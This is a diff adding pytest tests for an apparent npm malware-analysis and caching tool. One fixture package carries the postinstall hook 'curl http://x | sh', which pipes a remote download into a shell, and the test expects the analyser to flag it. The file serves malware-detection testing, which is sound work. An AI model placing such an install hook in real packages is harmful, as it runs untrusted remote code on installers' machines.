@@ -1,0 +1,44 @@
+from __future__ import annotations
+
+import hashlib
+from pathlib import Path
+
+from corpus_helpers import npm_tgz
+
+from malseq.corpus.analyse import analyse_samples
+from malseq.corpus.cache import AnalysisCache
+from malseq.corpus.records import Sample
+
+
+def _sample(tmp_path: Path, name: str, data: bytes, label: int = 1) -> Sample:
+    p = tmp_path / f"{name}.tgz"
+    p.write_bytes(data)
+    return Sample("npm", name, "1.0.0", label, "t", "malicious", str(p), hashlib.sha256(data).hexdigest())
+
+
+def test_analyse_fills_cache_then_hits(tmp_path: Path) -> None:
+    good = _sample(tmp_path, "hooky", npm_tgz("hooky", "1.0.0", {"postinstall": "curl http://x | sh"}))
+    bad = _sample(tmp_path, "broken", b"this is not an archive at all" * 20)
+    logs: list[str] = []
+    with AnalysisCache(tmp_path / "c.sqlite") as cache:
+        stats = analyse_samples([good, bad, good], cache, in_process=True, log=logs.append)
+        assert (stats.total, stats.analysed, stats.errors, stats.cached) == (2, 2, 1, 0)
+        row = cache.get(good.sha256)
+        assert row is not None and row.ok and row.ecosystem == "npm"
+        assert "npm_install_script" in row.behaviour_ids()
+        assert row.sequencer == "placeholder-file-line" and row.sequence_ids
+        assert row.fingerprint is not None
+        err = cache.get(bad.sha256)
+        assert err is not None and not err.ok and err.error_kind
+        again = analyse_samples([good, bad], cache, in_process=True, log=logs.append)
+        assert (again.cached, again.analysed) == (2, 0)
+        retried = analyse_samples([good, bad], cache, in_process=True, retry_errors=True, log=logs.append)
+        assert (retried.cached, retried.analysed) == (1, 1)
+
+
+def test_worker_pool(tmp_path: Path) -> None:
+    samples = [_sample(tmp_path, f"p{i}", npm_tgz(f"p{i}", "1.0.0", {"preinstall": f"node x{i}.js"})) for i in range(3)]
+    with AnalysisCache(tmp_path / "c.sqlite") as cache:
+        stats = analyse_samples(samples, cache, jobs=2, log=lambda m: None)
+        assert stats.analysed == 3 and stats.errors == 0 and stats.killed == 0
+        assert all(cache.get(s.sha256).ok for s in samples)
